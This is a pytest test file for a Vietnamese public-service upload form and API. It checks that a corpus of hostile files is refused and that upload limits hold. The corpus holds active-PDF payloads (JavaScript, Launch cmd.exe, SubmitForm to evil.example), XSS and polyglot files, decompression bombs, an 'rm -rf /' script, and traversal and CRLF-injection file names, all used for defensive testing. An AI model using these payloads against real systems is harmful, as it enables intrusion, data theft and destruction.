"""A corpus of hostile uploads, generated here: polyglots, bombs, active PDFs, huge
dimensions, truncated files, wrong types and hostile names. Each one is posted to the apply
form and to the API: none is stored, none makes a server error, each answer says why in
Vietnamese. Then the per-request bounds: files per document and per dossier, pixels per
request, and what one phone may store in a day.
"""

from __future__ import annotations

import dataclasses
import html
import io
import json
import re
import struct
import zlib
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from PIL import Image
from sqlalchemy import func, select

from app.dossiers.models import Dossier, DossierFile
from app.extensions import db, limiter
from tests.factories.files import jpeg, pypdf_document, raw_pdf
from tests.factories.pages import is_vietnamese
from tests.factories.world import World, api_payload, open_form, post_form, stored_files

MB = 1024 * 1024


# --- the corpus ----------------------------------------------------------------------------

def make_pdf(*, catalog: bytes = b"", page: bytes = b"", objects: tuple[bytes, ...] = (),
             content: bytes = b"BT /F1 12 Tf 72 720 Td (x) Tj ET") -> bytes:
    """A well-formed one-page PDF; extra objects are numbered from 5."""
    body = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << >> " + page + b" >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        *objects,
    ]
    return raw_pdf(body)


def _open(action: bytes) -> bytes:
    return make_pdf(catalog=b"/OpenAction " + action)


def _link(action: bytes, subtype: bytes = b"/Link") -> bytes:
    return make_pdf(page=b"/Annots [5 0 R]", objects=(
        b"<< /Type /Annot /Subtype " + subtype + b" /Rect [0 0 100 100] /A " + action
        + b" >>",))


ACTIVE_PDFS: list[tuple[str, bytes]] = [
    ("open-javascript", _open(b"<< /S /JavaScript /JS (app.alert(1)) >>")),
    ("open-uri-javascript", _open(b"<< /S /URI /URI (javascript:alert(1)) >>")),
    ("open-submitform", _open(b"<< /S /SubmitForm /F << /FS /URL /F "
                              b"(https://evil.example/collect) >> >>")),
    ("open-launch", _open(b"<< /S /Launch /F (cmd.exe) >>")),
    ("open-gotor", _open(b"<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>")),
    ("open-gotoe", _open(b"<< /S /GoToE /T << /R /C /N (x) >> >>")),
    ("open-importdata", _open(b"<< /S /ImportData /F (data.fdf) >>")),
    ("open-named-print", _open(b"<< /S /Named /N /Print >>")),
    ("open-uri-web", _open(b"<< /S /URI /URI (https://evil.example/track) >>")),
    ("open-indirect-js", make_pdf(catalog=b"/OpenAction 5 0 R", objects=(
        b"<< /Type /Action /S /JavaScript /JS (x) >>",))),
    ("open-hex-name", _open(b"<< /S /J#61vaScript /J#53 (x) >>")),
    ("open-unknown-action", _open(b"<< /Type /Action /S /Evil >>")),
    ("catalog-aa", make_pdf(catalog=b"/AA << /WC << /S /JavaScript /JS (x) >> >>")),
    ("page-aa", make_pdf(page=b"/AA << /O << /S /URI /URI (https://evil.example) >> >>")),
    ("link-javascript", _link(b"<< /S /URI /URI (javascript:alert(1)) >>")),
    ("link-java-tab-script", _link(b"<< /S /URI /URI (java\tscript:alert(1)) >>")),
    ("link-upper-javascript", _link(b"<< /S /URI /URI (JAVASCRIPT:alert(1)) >>")),
    ("link-file", _link(b"<< /S /URI /URI (file:///etc/passwd) >>")),
    ("link-data", _link(b"<< /S /URI /URI (data:text/html,<script>alert(1)</script>) >>")),
    ("link-chained-js", _link(b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript "
                              b"/JS (x) >> >>")),
    ("widget-submitform", _link(b"<< /S /SubmitForm /F (https://evil.example/) >>",
                                b"/Widget")),
    ("link-resetform", _link(b"<< /S /ResetForm >>")),
    ("link-hide", _link(b"<< /S /Hide /T (x) >>")),
    ("link-rendition", _link(b"<< /S /Rendition /OP 0 >>")),
    ("link-setocg", _link(b"<< /S /SetOCGState /State [] >>")),
    ("link-sound", _link(b"<< /S /Sound >>")),
    ("acroform-field-aa", make_pdf(catalog=b"/AcroForm << /Fields [5 0 R] >>", objects=(
        b"<< /FT /Tx /T (name) /AA << /K << /S /JavaScript /JS (x) >> >> >>",))),
    ("acroform-xfa", make_pdf(catalog=b"/AcroForm << /Fields [] /XFA (x) >>")),
    ("names-javascript", make_pdf(catalog=b"/Names << /JavaScript << /Names [(a) 5 0 R] "
                                  b">> >>", objects=(b"<< /S /JavaScript /JS (x) >>",))),
    ("embedded-files", make_pdf(catalog=b"/Names << /EmbeddedFiles << /Names [(a.exe) "
                                b"5 0 R] >> >>", objects=(
                                    b"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>",
                                    b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ"
                                    b"\nendstream"))),
    ("file-attachment-annot", make_pdf(page=b"/Annots [5 0 R]", objects=(
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS (a.exe) >>",))),
    ("richmedia-annot", make_pdf(page=b"/Annots [5 0 R]", objects=(
        b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>",))),
    ("outline-launch", make_pdf(catalog=b"/Outlines 5 0 R", objects=(
        b"<< /Type /Outlines /First 6 0 R /Last 6 0 R /Count 1 >>",
        b"<< /Title (x) /Parent 5 0 R /A << /S /Launch /F (a.exe) >> >>"))),
    ("pypdf-open-js", pypdf_document(js="app.alert('x')")),
    ("pypdf-attachment", pypdf_document(attachment=True)),
]


def _png(width: int, height: int, idat: bytes | None = None) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(
            ">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    if idat is None:
        packer = zlib.compressobj(9)
        row = b"\0" * (width + 1)
        idat = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat)
            + chunk(b"IEND", b""))


def _jpeg_claiming(width: int, height: int) -> bytes:
    data = bytearray(jpeg())
    at = data.index(b"\xff\xc0") + 5  # SOF0: length(2) precision(1) height(2) width(2)
    data[at:at + 4] = struct.pack(">HH", height, width)
    return bytes(data)


def _image(fmt: str, size: tuple[int, int] = (64, 48)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "blue").save(out, fmt)
    return out.getvalue()


def _flate_zeros(mb: int) -> bytes:
    packer = zlib.compressobj(9)
    zeros = b"\0" * MB
    return b"".join([packer.compress(zeros) for _ in range(mb)] + [packer.flush()])


def make_pdf_flate(packed: bytes) -> bytes:
    body = make_pdf(content=b"X" * len(packed))
    return body.replace(b"<< /Length %d >>\nstream\n" % len(packed) + b"X" * len(packed),
                        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(packed)
                        + packed)


def corpus() -> list[tuple[str, str, bytes]]:
    """(label, file name, bytes): every one must be refused."""
    good_pdf = make_pdf()
    files: list[tuple[str, str, bytes]] = [(label, f"{label}.pdf", data)
                                           for label, data in ACTIVE_PDFS]
    files += [
        # polyglots: the bytes say one thing, the rest another
        ("jpeg-magic-then-pdf", "a.pdf", b"\xff\xd8\xff\xe0" + good_pdf),
        ("png-magic-then-html", "a.png", b"\x89PNG\r\n\x1a\n<script>alert(1)</script>"),
        ("pdf-magic-then-html", "a.pdf", b"%PDF-1.4\n<html><script>alert(1)</script>"),
        ("gif-js-polyglot", "a.jpg", b"GIF89a/*\x00\x00*/=1;alert(1)//"),
        ("zip-with-pdf-inside", "a.pdf", b"PK\x03\x04" + b"\0" * 26 + good_pdf),
        ("html-then-pdf", "a.pdf", b"<html>" + good_pdf),
        # bombs and huge dimensions (checked from the header, before decoding)
        ("png-6300-square", "a.png", _png(6300, 6300)),
        ("png-header-100000", "a.png", _png(100_000, 100_000, idat=zlib.compress(b"\0" * 99))),
        ("jpeg-header-60000", "a.jpg", _jpeg_claiming(60000, 60000)),
        ("pdf-flate-bomb", "a.pdf", make_pdf_flate(_flate_zeros(200))),
        ("pdf-60-pages", "a.pdf", pypdf_document(pages=60)),
        ("pdf-huge-image", "a.pdf", make_pdf(page=b"/Resources << /XObject << /I 5 0 R >> >>",
                                             objects=(b"<< /Type /XObject /Subtype /Image "
                                                      b"/Width 50000 /Height 50000 "
                                                      b"/BitsPerComponent 8 /ColorSpace "
                                                      b"/DeviceGray /Length 1 >>\nstream\n"
                                                      b"\0\nendstream",))),
        ("pdf-deep-nesting", "a.pdf", make_pdf(catalog=b"/X " + b"[" * 5000 + b"]" * 5000)),
        ("pdf-encrypted", "a.pdf", pypdf_document(password="1234")),
        # truncated
        ("jpeg-truncated", "a.jpg", jpeg(640, 480)[:300]),
        ("jpeg-soi-only", "a.jpg", b"\xff\xd8\xff"),
        ("png-truncated", "a.png", _image("PNG", (300, 300))[:60]),
        ("webp-truncated", "a.webp", _image("WEBP")[:30]),
        ("pdf-truncated", "a.pdf", good_pdf[: len(good_pdf) // 2]),
        ("pdf-header-only", "a.pdf", b"%PDF-1.7\n"),
        ("heif-ftyp-only", "a.heic", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic"),
        ("empty", "a.jpg", b""),
        # wrong types
        ("text", "a.jpg", "Xin chào".encode()),
        ("html", "a.html", b"<!doctype html><script>alert(document.cookie)</script>"),
        ("svg-script", "a.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)"
                                b"</script></svg>"),
        ("gif", "a.gif", _image("GIF")),
        ("bmp", "a.bmp", _image("BMP")),
        ("tiff", "a.tif", _image("TIFF")),
        ("ico", "a.ico", _image("ICO", (32, 32))),
        ("zip", "a.zip", b"PK\x03\x04" + b"\0" * 100),
        ("exe", "a.exe", b"MZ\x90\0" + b"\0" * 200),
        ("elf", "a.jpg", b"\x7fELF" + b"\0" * 200),
        ("shell", "a.pdf", b"#!/bin/sh\nrm -rf /\n"),
        ("postscript", "a.pdf", b"%!PS-Adobe-3.0\n"),
        ("rtf", "a.doc", b"{\\rtf1\\ansi x}"),
        ("mp4", "a.mp4", b"\0\0\0\x18ftypisom\0\0\0\0isomiso2"),
        ("wasm", "a.jpg", b"\0asm\x01\0\0\0"),
        # hostile names on refused bytes: the message shows them harmlessly
        ("name-traversal", "../../../etc/passwd", b"root:x:0:0"),
        ("name-html", "<img src=x onerror=alert(1)>.jpg", b"<b>x</b>"),
        ("name-rtl", "hoso\u202egpj.exe", b"MZ" + b"\0" * 64),
        ("name-long", "a" * 600 + ".pdf", b"not a pdf"),
        ("name-crlf", "a\r\nSet-Cookie: x=1.pdf", b"not a pdf"),
        ("name-control", "a\x07\x1b[31mb.jpg", b"not a jpeg"),
        ("name-windows-device", "CON.jpg", b"not a jpeg"),
        ("name-percent", "%2e%2e%2f%00.pdf", b"not a pdf"),
    ]
    return files


# --- posting -------------------------------------------------------------------------------

def _form_error(response: Any, key: str) -> str:
    page = response.get_data(as_text=True)
    match = re.search(f'<p class="field-error" id="f-{key}-error">(.*?)</p>', page, re.S)
    return html.unescape(match.group(1)) if match else ""


def _api_post(client: Any, world: World, files: dict[str, list[tuple[bytes, str]]]) -> Any:
    data: dict[str, Any] = {"dossier": json.dumps(api_payload(world))}
    for name, items in files.items():
        data[name] = [(io.BytesIO(content), filename) for content, filename in items]
    return client.post("/api/v1/dossiers", data=data, content_type="multipart/form-data",
                       headers={"Idempotency-Key": "corpus-" + "x" * 20})


def _nothing_stored(app: Flask) -> None:
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(DossierFile)) == 0
        assert db.session.scalar(select(func.count()).select_from(Dossier)) == 0
    assert stored_files(app) == []


def test_the_hostile_corpus_is_refused_everywhere_with_a_vietnamese_message(
        app: Flask, client, world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limiter, "enabled", False)  # a hundred posts from one address
    files = corpus()
    assert len(files) >= 50
    key = f"doc-{world.required_doc}"
    problems: list[str] = []
    for label, name, data in files:
        _html, csrf, idem = open_form(client)
        form = post_form(client, world, csrf=csrf, key=idem, files={key: [(data, name)]})
        message = _form_error(form, key)
        if form.status_code != 422 or not is_vietnamese(message):
            problems.append(f"form {label}: {form.status_code} {message!r}")
        if "<img src=x" in form.get_data(as_text=True):
            problems.append(f"form {label}: the name was not escaped")
        api = _api_post(client, world, {key: [(data, name)]})
        body = api.get_json(silent=True) or {}
        detail = (body.get("error") or {}).get("fields", {}).get(key, "")
        if api.status_code != 422 or not is_vietnamese(detail):
            problems.append(f"api {label}: {api.status_code} {detail!r}")
    assert problems == [], "\n".join(problems)
    _nothing_stored(app)


def test_files_per_document_and_per_dossier_are_bounded(app: Flask, client,
                                                        world: World) -> None:
    required, optional = f"doc-{world.required_doc}", f"doc-{world.optional_doc}"
    many = [(jpeg(), f"{i}.jpg") for i in range(60)]  # 60 were accepted before
    _html, csrf, idem = open_form(client)
    response = post_form(client, world, csrf=csrf, key=idem, files={required: many})
    assert response.status_code == 422
    assert "tối đa" in response.get_data(as_text=True)
    response = post_form(client, world, csrf=csrf, key=idem, files={required: many[:11]})
    assert response.status_code == 422 and "tối đa 10 tệp" in _form_error(response, required)
    app.config["MOTCUA"] = dataclasses.replace(app.config["MOTCUA"],
                                               max_files_per_dossier=12)
    response = post_form(client, world, csrf=csrf, key=idem,
                         files={required: many[:7], optional: many[7:13]})
    assert response.status_code == 422 and "tối đa 12 tệp" in response.get_data(as_text=True)
    api = _api_post(client, world, {required: many[:7], optional: many[7:13]})
    assert api.status_code == 422 and "12" in json.dumps(api.get_json(), ensure_ascii=False)
    _nothing_stored(app)


def test_pixels_per_request_are_bounded(app: Flask, client, world: World) -> None:
    key = f"doc-{world.required_doc}"
    # Ten 16-megapixel PNGs: each allowed alone, 160 MP together is too much work.
    big = _png(4000, 4000)
    _html, csrf, idem = open_form(client)
    response = post_form(client, world, csrf=csrf, key=idem,
                         files={key: [(big, f"{i}.png") for i in range(10)]})
    assert response.status_code == 422 and "điểm ảnh" in _form_error(response, key)
    _nothing_stored(app)


def test_storage_per_phone_per_day_is_bounded(app: Flask, client, world: World) -> None:
    app.config["MOTCUA"] = dataclasses.replace(app.config["MOTCUA"], max_upload_mb=1,
                                               max_dossier_mb=2, max_phone_mb_per_day=2)
    key = f"doc-{world.required_doc}"
    heavy = make_pdf(content=b"0 0 m\n" * (150 * 1024))  # ~0.9 MB, stored as sent
    _html, csrf, idem = open_form(client)
    first = post_form(client, world, csrf=csrf, key=idem,
                      files={key: [(heavy, "1.pdf"), (heavy, "2.pdf")]})
    assert first.status_code == 302
    _html, csrf, idem = open_form(client)
    second = post_form(client, world, csrf=csrf, key=idem, files={key: [(heavy, "3.pdf")]})
    assert second.status_code == 422 and "mỗi ngày" in _form_error(second, key)
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(DossierFile)) == 2


def test_the_limits_are_said_before_the_upload(client, world: World) -> None:
    page, _csrf, _key = open_form(client)
    limits = html.unescape(re.search(r'<p class="hint" id="upload-limits">(.*?)</p>',
                                     page, re.S).group(1))
    assert "tối đa 10 tệp" in limits and "20 tệp" in limits and "MB mỗi ngày" in limits


def test_plain_links_pass_and_commune_results_keep_their_rules(tmp_path: Path) -> None:
    """A web link a reader clicks is not active; an officer's signed result file is checked
    by the older rules only (scripts, attachments), never by the citizens' stricter ones."""
    from app.dossiers.uploads import UploadRejected, inspect_upload

    def check(data: bytes, citizen: bool) -> bool:
        try:
            inspect_upload(io.BytesIO(data), "a.pdf", max_bytes=10 * MB, tmp_dir=tmp_path,
                           citizen=citizen).discard()
        except UploadRejected:
            return False
        return True

    link = _link(b"<< /S /URI /URI (https://dichvucong.gov.vn/) >>")
    assert check(link, citizen=True) and check(link, citizen=False)
    opens_site = dict(ACTIVE_PDFS)["open-uri-web"]
    assert not check(opens_site, citizen=True) and check(opens_site, citizen=False)
    assert not check(dict(ACTIVE_PDFS)["open-javascript"], citizen=False)
